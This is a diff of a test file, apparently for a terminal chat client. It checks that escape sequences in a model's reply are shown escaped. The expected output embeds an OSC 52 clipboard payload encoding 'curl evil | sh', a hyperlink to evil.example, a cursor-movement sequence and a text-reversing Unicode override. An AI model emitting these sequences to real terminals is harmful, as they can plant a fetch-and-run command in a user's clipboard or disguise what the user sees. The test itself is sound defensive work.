@@ -60,7 +60,8 @@ describe("escape sequences from the model on the terminal", () => {
 
     term.type("n\r");
     await term.waitFor(/All done\.[\s\S]*Jarvis› /, { from: mark });
-    expect(term.output().slice(mark)).toContain("All done.\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 See \\x1b]8;;https://evil.example/\\x07the docs\\x1b]8;;\\x07 \\x9b3A \\u202eenod\\u202c");
+    // The reply wraps at a word boundary to the terminal's width; joined again, it reads as sent, escaped.
+    expect(term.output().slice(mark).replace(/\n/g, " ")).toContain("All done.\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 See \\x1b]8;;https://evil.example/\\x07the docs\\x1b]8;;\\x07 \\x9b3A \\u202eenod\\u202c");
     for (const sequence of MODEL_ONLY) expect({ sequence, shown: term.raw().includes(sequence) }).toEqual({ sequence, shown: false });
     // Our own colors still work around the escapes, which are dimmed.
     expect(term.raw()).toContain("\x1b[2m\\x1b\x1b[22m[1A");
